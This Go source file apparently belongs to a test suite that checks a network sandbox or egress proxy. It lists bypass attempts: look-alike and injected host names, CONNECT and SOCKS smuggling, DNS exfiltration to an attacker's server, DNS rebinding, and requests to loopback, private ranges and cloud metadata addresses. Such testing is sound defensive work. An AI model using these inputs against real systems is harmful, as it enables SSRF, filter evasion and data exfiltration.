package hostile

import (
	"fmt"
	"strings"
)

// attempts is the whole list. New ones go to the end of their category; numbers
// follow.
func attempts() []attempt {
	var out []attempt
	for _, f := range []func() []attempt{
		names, resolving, addresses, oneName, framing, paths, sockets, local, processes, files, keys, forging, ports, sessions, plants,
	} {
		out = append(out, f()...)
	}
	return out
}

// request is a plain one for a path with the attempt's mark.
func asks(host string) string {
	return `GET /{c} HTTP/1.1\r\nHost: ` + host + `\r\nConnection: close\r\n\r\n`
}

func connect(target string) string {
	return `CONNECT ` + target + ` HTTP/1.1\r\nHost: ` + target + `\r\n\r\n`
}

// socks is a SOCKS5 request for a name.
func socks(host string, port int) string {
	return fmt.Sprintf(`\x05\x01\x00\x03\x%02x%s\x%02x\x%02x`, len(host), host, port>>8, port&255)
}

func names() []attempt {
	const c = "names"
	viaProxy := func(target string) []string { return []string{"tunnel", "{proxy}", connect(target), "", asks(target)} }
	twinProxy := viaProxy("{name}:80")
	return []attempt{
		{category: c, name: "an allowed name as a prefix of another", do: []string{"get", "GET", "http://good.example.{name}/{c}"}, names: []string{"good.example.{name}"}},
		{category: c, name: "an allowed name as a suffix of another", do: []string{"get", "GET", "http://{c}good.example/{c}"}, names: []string{"{c}good.example"}},
		{category: c, name: "a look-alike in punycode", do: []string{"get", "GET", "http://xn--gd-jlcc.{name}/{c}"}, names: []string{"xn--gd-jlcc.{name}"}},
		{category: c, name: "a full-width look-alike that folds to a denied name", do: []string{"say", "tcp", "no.good.example:80", `GET /{c} HTTP/1.1\r\nHost: ｎｏ.good.example\r\nConnection: close\r\n\r\n`}},
		{category: c, name: "a denied name with a trailing dot", do: []string{"get", "GET", "http://no.good.example./{c}"}},
		{category: c, name: "a denied name in capitals", do: []string{"get", "GET", "http://NO.Good.EXAMPLE/{c}"}},
		{category: c, name: "a denied name behind a proxy's trailing dots", do: viaProxy("no.good.example..:80"), control: control{kind: twin}, twin: twinProxy},
		{category: c, name: "a label below a name without a wildcard", do: []string{"get", "GET", "http://{c}.loot.example/{c}"}, names: []string{"{c}.loot.example"}},
		{category: c, name: "NUL in the name of a CONNECT", do: viaProxy(`good.example\x00.{name}:80`), control: control{kind: twin}, twin: twinProxy},
		{category: c, name: "an escape in the name of an absolute URL", do: []string{"say", "tcp", "{proxy}", `GET http://{c}%2eevil.example/{c} HTTP/1.1\r\nHost: {c}%2eevil.example\r\nConnection: close\r\n\r\n`},
			names: []string{"{c}.evil.example"}, control: control{kind: twin}, twin: []string{"say", "tcp", "{proxy}", `GET http://{name}/{c} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n`}},
		{category: c, name: "an allowed name as user information", do: []string{"say", "tcp", "{proxy}", `GET http://good.example@{name}/{c} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n`},
			control: control{kind: twin}, twin: []string{"say", "tcp", "{proxy}", `GET http://{name}/{c} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n`}},
		{category: c, name: "a label of 200 characters by SOCKS", do: []string{"tunnel", "{proxy}", socks(strings.Repeat("a", 200)+".good.example", 80), "", asks(strings.Repeat("a", 200) + ".good.example")},
			control: control{kind: twin}, twin: []string{"tunnel", "{proxy}", `\x05\x01\x00\x03\x12{name}\x00\x50`, "", asks("{name}")}},
		{category: c, name: "a space before the port, a fragment, a backslash", do: []string{"sh", `for h in '{name}\\@good.example' '{name}#good.example' '{name} good.example' 'good.example,{name}'; do $T act tunnel {proxy} "CONNECT $h:80 HTTP/1.1\r\nHost: $h:80\r\n\r\n" '' '` + asks("{name}") + `'; done`},
			control: control{kind: twin}, twin: twinProxy},
	}
}

func resolving() []attempt {
	const c = "DNS"
	list := []attempt{
		{category: c, name: "data in the labels of a name", do: []string{"lookup", "c2VjcmV0LWRhdGE.{c}.{name}"}},
		{category: c, name: "data in the labels of an allowed wildcard, never connected to", do: []string{"lookup", "{c}.c2VjcmV0.good.example"}},
		{category: c, name: "TXT from the configured server", do: []string{"dns", "udp", "203.0.113.53:53", "16", "{c}.{name}"}},
		{category: c, name: "NULL, HTTPS, SRV, MX, ANY", do: []string{"sh", `for k in 10 65 33 15 255; do $T act dns udp 203.0.113.53:53 $k k$k.{c}.{name}; done`}},
		{category: c, name: "a server of the attacker's, UDP", do: []string{"dns", "udp", "{addr}:53", "1", "x.{c}.example"}},
		{category: c, name: "a server of the attacker's, TCP", do: []string{"dns", "tcp", "{addr}:53", "1", "x.{c}.example"}},
		{category: c, name: "a server of the attacker's, IPv6", do: []string{"dns", "udp", "[{addr6}]:53", "1", "x.{c}.example"}},
		{category: c, name: "a name with NUL and dots inside a label", do: []string{"dns", "udp", "{addr}:53", "1", `good\x00.{c}.example`}},
		{category: c, name: "a label longer than the protocol allows", do: []string{"dns", "udp", "{addr}:53", "1", strings.Repeat("x", 80) + ".{c}.example"}},
		{category: c, name: "DNS over TLS at a literal address", do: []string{"saytls", "{addr}:853", "-", "dot", "{c}"}, arrived: byCanary},
		{category: c, name: "DNS over HTTPS at a literal address", do: []string{"get", "POST", "https://{addr}/dns-query", "body={c}"}},
		{category: c, name: "reverse lookup of an address", do: []string{"dns", "udp", "203.0.113.53:53", "12", "{arpa}"},
			arrived: func(s *scene, a *aim) string {
				for _, q := range s.queries {
					if q.Name == a.expand(s, []string{"{arpa}"})[0] {
						return "DNS question " + q.Name
					}
				}
				return ""
			}},
		{category: c, name: "a name that turns to the host's loopback after the first answer", do: []string{"sh", `for i in 1 2 3; do $T act get GET http://{c}.rebind.example/{c}$i; done`},
			answers: []string{"198.51.101.9", "127.0.0.1"}, arrived: byHost},
	}
	for _, a := range []struct{ what, addr string }{
		{"the host's loopback", "127.0.0.1"}, {"another of the host's loopback addresses", "127.8.9.10"}, {"the host's own address", "192.0.2.2"},
		{"the unspecified address", "0.0.0.0"}, {"cloud metadata", "169.254.169.254"}, {"a company's server", "10.66.0.7"}, {"another private range", "172.20.0.7"},
		{"a third private range", "192.168.7.7"}, {"a carrier's range", "100.64.7.7"}, {"a multicast group", "224.0.0.251"}, {"broadcast", "255.255.255.255"},
		{"IPv6 loopback", "::1"}, {"the host's own IPv6 address", "2001:db8:76::2"}, {"an IPv4 address in IPv6 (mapped)", "::ffff:127.0.0.1"},
		{"an IPv4 address in IPv6 (NAT64)", "64:ff9b::a00:7"}, {"an IPv4 address in IPv6 (6to4)", "2002:a00:7::1"}, {"a unique local address", "fd00:66::7"},
	} {
		ctl := control{kind: bare}
		if a.addr[0] == '2' && !strings.Contains(a.addr, ":") || a.addr == "127.8.9.10" || a.addr == "::ffff:127.0.0.1" {
			// Nothing can be connected to there, or Go's resolver takes it out.
			ctl = control{kind: optional}
		}
		list = append(list, attempt{category: "addresses", name: "an allowed name that resolves to " + a.what, do: []string{"get", "GET", "http://{c}.rebind.example/{c}"},
			answers: []string{a.addr}, arrived: byAnswer(a.addr), control: ctl})
	}
	return list
}

func addresses() []attempt {
	const c = "addresses"
	var list []attempt
	for _, a := range []struct{ what, addr string }{
		{"a literal address", "{addr}"}, {"a literal IPv6 address", "[{addr6}]"}, {"cloud metadata", "169.254.169.254"}, {"the host's own address", "192.0.2.2"},
		{"the host's own IPv6 address", "[2001:db8:76::2]"}, {"the host's loopback", "127.0.0.1"}, {"the host's IPv6 loopback", "[::1]"}, {"a private address", "10.66.0.9"}, {"a carrier's range", "100.64.0.9"},
		{"an IPv4-mapped address", "[::ffff:{addr}]"}, {"a NAT64 address", "[64:ff9b::{hexaddr}]"}, {"a 6to4 address", "[2002:{hexaddr}::1]"}, {"the unspecified address", "0.0.0.0"},
	} {
		score := byCanary
		if !strings.Contains(a.addr, "{") {
			score = packetTo(strings.Trim(a.addr, "[]"))
		} else if strings.Contains(a.addr, "{hexaddr}") {
			score = func(s *scene, m *aim) string {
				hex := m.expand(s, []string{"{hexaddr}"})[0]
				for _, p := range s.packets {
					if strings.Contains(p.To.Addr().StringExpanded(), hex) {
						return "packet to " + p.To.String()
					}
				}
				return byCanary(s, m)
			}
		}
		list = append(list, attempt{category: c, name: "a request to " + a.what, do: []string{"get", "GET", "http://" + a.addr + "/{c}"}, arrived: score})
	}
	ok := []string{"tunnel", "{proxy}", connect("{name}:80"), "", asks("{name}")}
	for _, a := range []string{"2130706433", "0x7f000001", "017700000001", "127.1", "0", "[::ffff:127.0.0.1]", "[::1]", "[::1%25lo]", "[fe80::1%25h0]", "localhost", "127.0.0.1.", "192.0.2.2"} {
		list = append(list, attempt{category: c, name: "CONNECT to " + a, do: []string{"tunnel", "{proxy}", connect(a + ":80"), "", asks(a)}, twin: ok, control: control{kind: twin}, arrived: orTwin(byHost)})
	}
	list = append(list,
		attempt{category: c, name: "SOCKS to 127.0.0.1 as an address", do: []string{"tunnel", "{proxy}", `\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50`, "", asks("127.0.0.1")}, twin: ok, control: control{kind: twin}, arrived: orTwin(byHost)},
		attempt{category: c, name: "SOCKS to ::1 as an address", do: []string{"tunnel", "{proxy}", `\x05\x01\x00\x04` + strings.Repeat(`\x00`, 15) + `\x01\x00\x50`, "", asks("[::1]")}, twin: ok, control: control{kind: twin}, arrived: orTwin(byHost)},
		attempt{category: c, name: "SOCKS to localhost as a name", do: []string{"tunnel", "{proxy}", socks("localhost", 80), "", asks("localhost")}, twin: ok, control: control{kind: twin}, arrived: orTwin(byHost)},
		attempt{category: c, name: "SOCKS UDP ASSOCIATE and BIND", do: []string{"sh", `for k in 02 03; do $T act tunnel {proxy} "\x05\x$k\x00\x01\x00\x00\x00\x00\x00\x50" '' '{c}'; done; $T act datagram {addr}:53 '{c}'`}, twin: ok, control: control{kind: twin}},
		attempt{category: c, name: "host.penstock.internal at a port of no rule", do: []string{"get", "GET", "http://host.penstock.internal:{port}/{c}"},
			twin: []string{"get", "GET", "http://host.penstock.internal:{open}/{c}"}, control: control{kind: twin}, arrived: byHost},
		attempt{category: c, name: "Host: host.penstock.internal on another's connection", do: []string{"say", "tcp", "good.example:80", asks("host.penstock.internal:{port}")},
			twin: []string{"get", "GET", "http://host.penstock.internal:{open}/{c}"}, control: control{kind: twin}, arrived: byCanary},
		attempt{category: c, name: "a multicast group", do: []string{"datagram", "224.0.0.251:5353", "{c}"}},
		attempt{category: c, name: "broadcast", do: []string{"datagram", "255.255.255.255:9", "{c}"}},
		attempt{category: c, name: "a link-local address with a zone", do: []string{"sh", `for z in h0 lo eth0 1 2; do $T act say tcp "[fe80::1%$z]:80" "GET /{c} HTTP/1.1\r\n\r\n"; done; $T act datagram '[2001:db8:76::1]:9' '{c}'`}},
	)
	return list
}

// orTwin scores an attempt by f, and its twin by the mark.
func orTwin(f func(*scene, *aim) string) func(*scene, *aim) string {
	return func(s *scene, a *aim) string {
		if a.id[0] == 't' {
			return byCanary(s, a)
		}
		if got := s.net.with(a.id); got != "" {
			return got
		}
		return f(s, a)
	}
}
